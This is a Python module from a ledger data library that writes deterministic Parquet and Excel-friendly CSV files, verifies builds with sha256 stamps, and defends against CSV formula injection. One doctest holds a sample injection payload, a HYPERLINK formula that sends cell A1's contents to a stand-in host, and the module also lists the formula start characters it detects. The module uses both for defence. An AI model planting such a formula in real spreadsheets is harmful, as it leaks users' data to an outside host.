"""Reading and writing the processed tables: Parquet for code, CSV with BOM for Excel.

Writes are deterministic (sorted rows, fixed column order, no timestamps in metadata)
so that two builds from the same raw data are byte-identical.
"""
from __future__ import annotations

import hashlib
import json
import os
import re
from datetime import datetime
from pathlib import Path

import pandas as pd
import pyarrow as pa  # pandas imports it anyway; pyarrow.parquet (~8 ms) only where a file is read or written

from . import config
from .cells import column_number
from .csvtext import csv_header, csv_rows
from .dtypes import DTYPES  # the contract as plain data (readable without pandas), re-exported

_DTYPES_KEY = "ledgerlib.dtypes"
_NULLABLE = {"Int64", "Int32", "boolean", "Float64"}

TABLES = tuple(DTYPES)

#: Row order of each table (stable sort; the ledger and assignments keep the ledger's own
#: order). Problems are in reading order: by file, sheet, then cell row and column.
SORT_KEYS: dict[str, list[str]] = {
    "ledger": [], "assignments": [],
    "progress": ["city", "department", "month", "plan_year", "task_id", "file", "row"],
    **{t: ["city", "department", "month", "file", "row"]
       for t in ("activities", "publicity", "collection", "shared_records", "joint_cases")},
    "submissions_log": ["city", "department", "month", "file"],
    "deadline_changes": ["city", "department", "month", "decision_no", "decision_date"],
    "problems": ["file", "sheet", "_cell_row", "_cell_col", "field", "problem", "value"],
}


def empty_table(name: str) -> pd.DataFrame:
    """A table with no rows and the contract's columns and dtypes.

    Example::

        >>> list(empty_table("assignments").columns)
        ['plan_year', 'task_id', 'department', 'role', 'via', 'kind']
    """
    return pd.DataFrame({c: pd.Series(dtype=t) for c, t in DTYPES[name].items()})


def sort_table(df: pd.DataFrame, name: str) -> pd.DataFrame:
    """The table's rows in its SORT_KEYS order (A9 before A10 for problem cells), index reset.

    Example::

        >>> sort_table(pd.DataFrame({"file": ["a.xlsx"] * 2, "sheet": ["S"] * 2, "cell": ["A10", "A9"], "field": "", "problem": "", "value": ""}), "problems")["cell"].tolist()
        ['A9', 'A10']
    """
    keys = SORT_KEYS[name]
    if not keys:
        return df.reset_index(drop=True)
    if name == "problems":
        parts = df["cell"].fillna("").astype(str).str.upper().str.extract(r"^([A-Z]*)(\d*)$")
        df = df.assign(_cell_row=pd.to_numeric(parts[1], errors="coerce").fillna(0).astype("int64"),
                       _cell_col=parts[0].fillna("").map(column_number).astype("int64"))
    df = df.sort_values(keys, kind="mergesort", na_position="first")
    return df.drop(columns=[k for k in keys if k.startswith("_")]).reset_index(drop=True)


def write_table(df: pd.DataFrame, out_dir: Path, name: str, sort_by: list[str] | None = None,
                formats: tuple[str, ...] = ("parquet", "csv")) -> Path:
    """Write `name.parquet` and `name.csv` (UTF-8 with BOM) under out_dir; return the Parquet path.

    formats: which of the two to write (`ledger build` writes a large table's two files in
    two jobs side by side).

    Example::

        >>> import tempfile
        >>> path = write_table(empty_table("ledger"), Path(tempfile.mkdtemp()), "ledger")
        >>> path.name, path.with_suffix(".csv").exists()
        ('ledger.parquet', True)
    """
    out_dir = Path(out_dir)
    out_dir.mkdir(parents=True, exist_ok=True)
    if sort_by:
        df = df.sort_values(sort_by, kind="mergesort", na_position="last")
    df = df.reset_index(drop=True)
    df.attrs = {}  # side-channel details (warnings, problems) are not part of the table
    path = out_dir / f"{name}.parquet"
    if "parquet" in formats:
        import pyarrow.parquet as pq

        table = pa.Table.from_pandas(df, preserve_index=False)
        # pandas metadata embeds library versions; drop it so bytes depend on data only, and
        # keep just the nullable dtypes (Int64 with a gap would otherwise come back as float).
        nullable = {c: str(t) for c, t in df.dtypes.items() if str(t) in _NULLABLE}
        table = table.replace_schema_metadata({_DTYPES_KEY: json.dumps(nullable, sort_keys=True)}
                                              if nullable else None)
        pq.write_table(table, path, compression="zstd", write_statistics=False)
    if "csv" in formats:
        # No date_format: pandas writes a date-only column as 2021-06-03 and keeps the time
        # where there is one (received_at), which a fixed "%Y-%m-%d" cut off.
        write_csv(df, out_dir / f"{name}.csv")
    return path


# --------------------------------------------------------------------------- CSV

#: A field starting with one of these is taken as a formula by Excel, LibreOffice and WPS
#: (OWASP, "CSV Injection"): `=`, `+`, `-`, `@`, a tab or a carriage return.
CSV_FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
#: A number as text (-12, +3.5, -1e3, -40%) is data, not a formula: it stays as it is.
_PLAIN_NUMBER = re.compile(r"[+-]?(?:\d+(?:\.\d*)?|\.\d+)(?:[eE][+-]?\d+)?%?")


def inert_csv_field(value: object) -> object:
    """A CSV field that no spreadsheet will run: text starting like a formula gets a leading `'`.

    OWASP's advice for CSV injection: prefix such a field with a single quote (and quote the
    field, which the csv writer does whenever it holds a separator, quote or line break).
    Numbers, and text that is only a number such as "-3", are left alone.

    >>> print(inert_csv_field('=HYPERLINK("http://x/?d="&A1,"点击")'))
    '=HYPERLINK("http://x/?d="&A1,"点击")
    >>> inert_csv_field("-3"), inert_csv_field(-3), inert_csv_field("安阳市")
    ('-3', -3, '安阳市')
    """
    if not isinstance(value, str):
        return value
    if value.startswith(CSV_FORMULA_START) and not _PLAIN_NUMBER.fullmatch(value):
        value = "'" + value
    # A bare carriage return is not quoted by the csv module (lines end in \n) and would
    # split the row in Excel: line breaks become \n, which is quoted.
    return value.replace("\r\n", "\n").replace("\r", "\n") if "\r" in value else value


#: What every field inert_csv_field changes starts with or holds (a cheap test on a whole column).
_RISKY_START = r"[=+\-@\t\r]"  # CSV_FORMULA_START as one character class


def _inert_column(s: pd.Series) -> pd.Series:
    """inert_csv_field over a column. A text column is tested whole (Arrow's regex, C speed)
    and only the few fields that start like a formula or hold a carriage return go through
    inert_csv_field: a province's 1.3 million fields one by one cost a second of every build."""
    if not isinstance(s.dtype, pd.StringDtype):
        return s.map(inert_csv_field, na_action="ignore")
    risky = (s.str.match(_RISKY_START) | s.str.contains("\r", regex=False)).fillna(False).astype(bool)
    if not risky.any():
        return s
    out = s.copy()
    out[risky] = s[risky].map(inert_csv_field)
    return out


def write_csv(df: pd.DataFrame, path: Path, **kwargs) -> Path:
    """The one CSV writer of the suite: UTF-8 with BOM (Excel), `\\n` line ends, every text field
    inert (`inert_csv_field`), written to a temporary file and renamed, so a reader never sees
    half a file. kwargs go to `DataFrame.to_csv` (e.g. date_format). Returns path.

    Example::

        >>> import tempfile
        >>> path = write_csv(pd.DataFrame({"内容": ["=1+1"]}), Path(tempfile.mkdtemp()) / "a.csv")
        >>> path.read_text(encoding="utf-8-sig").splitlines()
        ['内容', "'=1+1"]
    """
    path = Path(path)
    path.parent.mkdir(parents=True, exist_ok=True)
    safe = df.copy(deep=False)
    for col in safe.columns:
        s = safe[col]
        if not (pd.api.types.is_numeric_dtype(s) or pd.api.types.is_bool_dtype(s)
                or pd.api.types.is_datetime64_any_dtype(s)):
            safe[col] = _inert_column(s)
    safe.columns = [inert_csv_field(str(c)) for c in safe.columns]
    tmp = path.with_name(f".{path.name}.tmp")
    # The bytes pandas' to_csv would write (UTF-8 after a BOM), made by Arrow where it can
    # (`csvtext`: a province's progress table in 0.04 s, not 0.25 s).
    rows = None if kwargs else csv_rows(safe)
    with open(tmp, "wb") as fh:
        fh.write("\ufeff".encode())
        if rows is not None:
            fh.write(csv_header(list(safe.columns)))
            fh.write(rows)
        else:
            fh.write(safe.to_csv(index=False, lineterminator="\n", **kwargs).encode("utf-8"))
    os.replace(tmp, path)
    return path


def read_table(name: str, data_dir: Path | None = None) -> pd.DataFrame:
    """One processed table as a DataFrame.

    Example, on the demo data (`data/processed` after `ledger build`)::

        >>> read_table("ledger").shape
        (39, 20)
    """
    data_dir = Path(data_dir) if data_dir else config.processed_dir()
    path = data_dir / f"{name}.parquet"
    if not path.exists():
        from . import labels

        raise FileNotFoundError(labels.CLI_MESSAGES["table_missing"].format(path=path))
    import pyarrow.parquet as pq

    table = pq.read_table(path)
    meta = (table.schema.metadata or {}).get(_DTYPES_KEY.encode())
    df = table.to_pandas()
    return df.astype(json.loads(meta)) if meta else df


def load_processed(data_dir: Path | None = None) -> dict[str, pd.DataFrame]:
    """Every processed table of the build in data_dir (default data/processed), by name,
    after checking its stamp.

    A missing folder, or one without a complete build stamp (`check_build`), raises
    BuildIncompleteError naming the fix, `ledger build`, rather than handing a report half
    a build (or an empty dict that fails later with KeyError: 'ledger').

    >>> data = load_processed()                        # doctest: +SKIP
    >>> data["ledger"].shape, sorted(data)[:3]         # doctest: +SKIP
    ((39, 17), ['activities', 'assignments', 'collection'])
    >>> load_processed("no/such/folder")
    Traceback (most recent call last):
    ...
    ledgerlib.tables.BuildIncompleteError: 没有处理后的数据：no/such/folder 不存在，请先运行 `ledger build` / no processed data: no/such/folder does not exist; run `ledger build` first
    """
    data_dir = Path(data_dir) if data_dir else config.processed_dir()
    stamp = check_build(data_dir)
    return {n: read_table(n, data_dir) for n in TABLES if n in stamp["tables"]}


# --------------------------------------------------------------------------- build stamp

#: The file that says a processed folder holds one complete build (written last).
BUILD_STAMP = "build_stamp.json"


class BuildIncompleteError(ValueError):
    """A processed folder without a complete build stamp; the message names `ledger build`."""


def sha256_file(path: Path) -> str:
    """Hex sha256 of a file, read in 1 MiB blocks.

    Example::

        >>> import tempfile
        >>> p = Path(tempfile.mkdtemp()) / "a.txt"
        >>> _ = p.write_bytes(b"abc")
        >>> sha256_file(p)[:16]
        'ba7816bf8f01cfea'
    """
    h = hashlib.sha256()
    with open(path, "rb") as fh:
        for block in iter(lambda: fh.read(1 << 20), b""):
            h.update(block)
    return h.hexdigest()


def _version() -> str:
    try:
        from importlib.metadata import version

        return version("credit-ledger")
    except Exception:  # an uninstalled checkout still builds
        return "unknown"


def write_stamp(out_dir: Path, inputs: dict[str, str] | None = None,
                built_at: datetime | None = None) -> Path:
    """Write out_dir/build_stamp.json for the tables in out_dir: what went in, what came out.

    {"version", "built_at", "inputs": {raw file: sha256}, "tables": {name: {"rows",
    "parquet", "csv"}}} with the sha256 of every table file, so that a truncated or
    missing file is caught by `check_build`. Written last, through a temporary file.

    Example::

        >>> import tempfile, json
        >>> folder = Path(tempfile.mkdtemp())
        >>> _ = write_table(empty_table("ledger"), folder, "ledger")
        >>> sorted(json.loads(write_stamp(folder).read_text(encoding="utf-8"))["tables"])
        ['ledger']
    """
    import pyarrow.parquet as pq

    out_dir = Path(out_dir)
    tables = {}
    for p in sorted(out_dir.glob("*.parquet")):
        name = p.stem
        csv = out_dir / f"{name}.csv"
        tables[name] = {"rows": pq.ParquetFile(p).metadata.num_rows, "parquet": sha256_file(p),
                        "csv": sha256_file(csv) if csv.exists() else None}
    stamp = {"version": _version(),
             "built_at": (built_at or datetime.now()).replace(microsecond=0).isoformat(),
             "inputs": dict(sorted((inputs or {}).items())), "tables": tables}
    path = out_dir / BUILD_STAMP
    tmp = path.with_name(f".{path.name}.tmp")
    tmp.write_text(json.dumps(stamp, ensure_ascii=False, indent=1) + "\n", encoding="utf-8")
    os.replace(tmp, path)
    return path


def check_build(data_dir: Path | None = None) -> dict:
    """The build stamp of data_dir, after checking that every table it lists is there, whole.

    Raises BuildIncompleteError (naming `ledger build`) when the stamp is missing or broken,
    or a table file is missing or differs from what the build wrote.

    Example, on the demo data (`data/processed` after `ledger build`)::

        >>> sorted(check_build()["tables"])[:3]
        ['activities', 'assignments', 'collection']
    """
    from .labels import CLI_MESSAGES

    data_dir = Path(data_dir) if data_dir else config.processed_dir()
    if not data_dir.is_dir():
        raise BuildIncompleteError(CLI_MESSAGES["no_processed"].format(path=data_dir))
    path = data_dir / BUILD_STAMP
    try:
        stamp = json.loads(path.read_text(encoding="utf-8"))
        listed = stamp["tables"]
        stamp["inputs"], stamp["built_at"], stamp["version"]  # noqa: B018 - all three must be there
    except FileNotFoundError:
        raise BuildIncompleteError(CLI_MESSAGES["no_stamp"].format(path=data_dir, stamp=BUILD_STAMP)) from None
    except (OSError, ValueError, KeyError, TypeError):
        raise BuildIncompleteError(CLI_MESSAGES["stamp_damaged"].format(path=path)) from None
    for name, entry in listed.items():
        for kind in ("parquet", "csv"):
            want = entry.get(kind) if isinstance(entry, dict) else None
            if want is None and kind == "csv":
                continue
            f = data_dir / f"{name}.{kind}"
            if not f.is_file() or sha256_file(f) != want:
                raise BuildIncompleteError(CLI_MESSAGES["table_changed"].format(path=f))
    return stamp
